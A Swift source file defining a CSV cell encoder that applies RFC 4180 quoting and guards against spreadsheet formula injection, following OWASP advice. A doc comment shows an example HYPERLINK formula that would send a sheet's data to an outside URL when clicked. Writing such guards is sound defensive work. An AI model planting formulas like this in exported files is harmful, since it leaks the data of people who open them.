/// One CSV cell: RFC 4180 quoting, and for text, protection against formula injection.
///
/// A spreadsheet that opens a CSV file runs a cell starting with `=`, `+`, `-` or `@` as a
/// formula, so an article titled `=HYPERLINK("http://…?"&A1, "Open")` could send the sheet's
/// data away when clicked (CWE-1236). Following OWASP's "CSV Injection" advice, a text cell
/// that starts with one of those, a tab or a carriage return gets a leading `'` (which the
/// spreadsheet shows as text and hides) and is always quoted. Numbers are written as they are,
/// so a negative count stays a number: only ``text(_:)`` neutralises.
public enum CSVField {
    /// First characters that make a spreadsheet read a cell as a formula (OWASP's list).
    static let formulaStarts: Set<Unicode.Scalar> = ["=", "+", "-", "@", "\t", "\r"]

    /// RFC 4180 quoting of a value written as it is: a header, a number, a boolean.
    public static func escape(_ value: String) -> String {
        guard value.contains(where: { $0 == "," || $0 == "\"" || $0 == "\n" || $0 == "\r" }) else { return value }
        return "\"" + value.replacing("\"", with: "\"\"") + "\""
    }

    /// A text cell: neutralised with a leading `'` when it would start a formula, then quoted.
    public static func text(_ value: String) -> String {
        guard let first = value.unicodeScalars.first, formulaStarts.contains(first) else { return escape(value) }
        return "\"'" + value.replacing("\"", with: "\"\"") + "\""
    }
}
